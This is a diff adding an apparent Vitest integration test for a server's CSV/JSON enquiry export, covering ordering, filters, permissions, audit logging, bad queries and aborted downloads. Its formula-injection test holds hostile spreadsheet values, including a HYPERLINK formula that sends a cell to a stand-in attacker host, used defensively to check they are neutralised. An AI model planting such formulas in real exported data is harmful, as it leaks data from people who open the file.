@@ -1,0 +1,145 @@
+import { mkdtempSync, rmSync } from 'node:fs';
+import { get } from 'node:http';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { serverSettings } from '../../src/server/config/settings.ts';
+import { openSqliteStoreBeside } from '../../src/server/store/sqlite/sqlite-store.ts';
+import { newEntry } from '../../src/server/store/testing/new-entry.ts';
+import type { AuditPage } from '../../src/studio/protocol-people.ts';
+import { anEnquiry } from '../hostile/support/enquiry.ts';
+import { send } from '../support/send.ts';
+import { type RunningServer, startServer } from '../support/server.ts';
+import { studioPassword } from '../support/studio-password.ts';
+import { joined, type StudioSession, sessionWith, signInTo } from '../support/studio-session.ts';
+
+const data = mkdtempSync(join(tmpdir(), 'slipway-enquiry-export-'));
+const env = { SLIPWAY_DATA: data, SLIPWAY_STUDIO_PASSWORD: studioPassword, SLIPWAY_RATE_LIMIT: 'off' };
+/** More than are read at a time, twice over. */
+const many = serverSettings.desk.exportBatch * 2 + 10;
+const elsewhere = 'international.trevarrow.example';
+
+let server: RunningServer;
+let owner: StudioSession;
+beforeAll(async () => {
+  server = await startServer({ env });
+  owner = sessionWith(server.url, { cookie: await signInTo(server.url) });
+  const store = openSqliteStoreBeside({ dataFolder: data, settings: serverSettings });
+  for (let index = 0; index < many; index += 1)
+    await store?.accept(
+      newEntry({
+        domain: elsewhere,
+        enquiryType: 6,
+        values: { message: `Number${index}`, gone_field: 'kept' },
+      }),
+    );
+  await store?.close();
+});
+afterAll(async () => {
+  await server.stop();
+  rmSync(data, { recursive: true });
+});
+
+const exported = async (query: string, person = owner) =>
+  (await person.ask('GET', `enquiries/export?${query}`)).text();
+
+/** RFC 4180. */
+function rowsOf(csv: string): readonly Readonly<Record<string, string>>[] {
+  const cells = [...csv.replace(/^\ufeff/, '').matchAll(/("(?:[^"]|"")*"|[^,\r\n]*)(,|\r\n)/g)];
+  const lines: string[][] = [[]];
+  for (const [, cell = '', end] of cells) {
+    lines.at(-1)?.push(cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);
+    if (end === '\r\n') lines.push([]);
+  }
+  const [head = [], ...rest] = lines.slice(0, -1);
+  return rest.map((line) => Object.fromEntries(line.map((cell, index) => [head[index], cell])));
+}
+
+describe('the export of enquiries', () => {
+  it('has every enquiry that the filter finds, once, the first one first', async () => {
+    const numbers = Array.from({ length: many }, (_, index) => `Number${index}`);
+    const rows = rowsOf(await exported(`format=csv&site=${elsewhere}`));
+    expect(rows.map(({ message }) => message)).toEqual(numbers);
+    expect(rows[0]).toMatchObject({
+      ...{ type: 'Buying a yacht', site: elsewhere, state: 'new', more: '{"gone_field":"kept"}' },
+    });
+    const all = JSON.parse(await exported(`format=json&site=${elsewhere}`));
+    expect(all.map(({ values }: { values: { message: string } }) => values.message)).toEqual(numbers);
+    expect(all[0]).toMatchObject({ type: { id: 6, name: 'Buying a yacht' }, site: elsewhere, state: 'new' });
+    expect(rowsOf(await exported('format=csv&search=number17&type=6')).map(({ message }) => message)).toEqual(
+      ['Number17', ...numbers.filter((text) => /^Number17\d/.test(text))],
+    );
+  });
+
+  it('is an empty table, or an empty list, where nothing is found', async () => {
+    expect(rowsOf(await exported('format=csv&type=77'))).toEqual([]);
+    expect(JSON.parse(await exported('format=json&type=77'))).toEqual([]);
+  });
+
+  it.each([
+    ['=HYPERLINK("https://evil.example?"&A1)'],
+    ['+1+1'],
+    ['-2+3'],
+    ['@SUM(A1)'],
+    [' =1+1'],
+    ['\u200e=1+1'],
+    ['\uff1d1+1'],
+  ])('holds no formula: %s', async (name) => {
+    await send(server.url, { ...anEnquiry, name, message: `Of ${name}, "quoted",\nin two lines` });
+    const row = rowsOf(await exported('format=csv&site=www.trevarrow.example')).at(-1);
+    for (const cell of [row?.name, row?.visitor_name])
+      expect(cell).toBe(`'${name.trim()}`.replace("''", "'"));
+    expect(row?.message).toContain('"quoted",\nin two lines');
+    const [last] = JSON.parse(await exported('format=json&site=www.trevarrow.example')).toReversed();
+    expect(last.values.name).toBe(name.trim());
+  });
+
+  it('is noted, without what was searched for', async () => {
+    await exported('format=csv&type=6&search=Winter');
+    const [entry] = (await owner.get<AuditPage>('audit')).entries;
+    expect(entry).toMatchObject({
+      ...{ action: 'enquiries-exported', about: 'CSV', details: { type: '6', search: true } },
+    });
+    expect(JSON.stringify(entry)).not.toContain('Winter');
+  });
+
+  it('has nothing outside of what somebody may see, whatever link they were given', async () => {
+    const reach = { role: 'viewer', enquiries: 'handle' } as const;
+    const limited = await joined(server.url, owner, { name: 'One type', ...reach, types: ['sales'] });
+    const other = await joined(server.url, owner, { name: 'One site', ...reach, sites: ['305'] });
+    expect(rowsOf(await exported('format=csv', limited))).toHaveLength(many);
+    expect(rowsOf(await exported('format=csv&type=3', limited))).toEqual([]);
+    expect(JSON.parse(await exported(`format=json&site=${elsewhere}`, other))).toEqual([]);
+    const reader = await joined(server.url, owner, { name: 'Reads', role: 'viewer', enquiries: 'read' });
+    expect((await reader.ask('GET', 'enquiries/export?format=csv')).status).toBe(403);
+  });
+
+  it.each([
+    '',
+    'format=xls',
+    'format=__proto__',
+    'format=csv&format=json',
+    `format=csv&search=${'x'.repeat(10_000)}`,
+  ])('says what is wrong: %s', async (query) => {
+    const answer = await owner.ask('GET', `enquiries/export?${query}`);
+    expect({ status: answer.status, body: await answer.json() }).toMatchObject({
+      ...{ status: 400, body: { error: 'bad-request' } },
+    });
+  });
+
+  it('ends where it is broken off, and the server goes on', async () => {
+    const broken = Array.from({ length: 20 }, () => {
+      const { promise, resolve } = Promise.withResolvers<void>();
+      const url = new URL('/studio/api/enquiries/export?format=json', server.url);
+      const request = get(url, { headers: { cookie: owner.cookie }, agent: false }, (response) => {
+        response.once('data', () => request.destroy());
+        response.once('error', () => undefined).once('close', resolve);
+      });
+      request.once('error', () => resolve());
+      return promise;
+    });
+    await Promise.all(broken);
+    expect(JSON.parse(await exported(`format=json&site=${elsewhere}`))).toHaveLength(many);
+    expect(server.logged()).not.toMatch(/"level":"(?:error|warn)"/);
+  });
+});
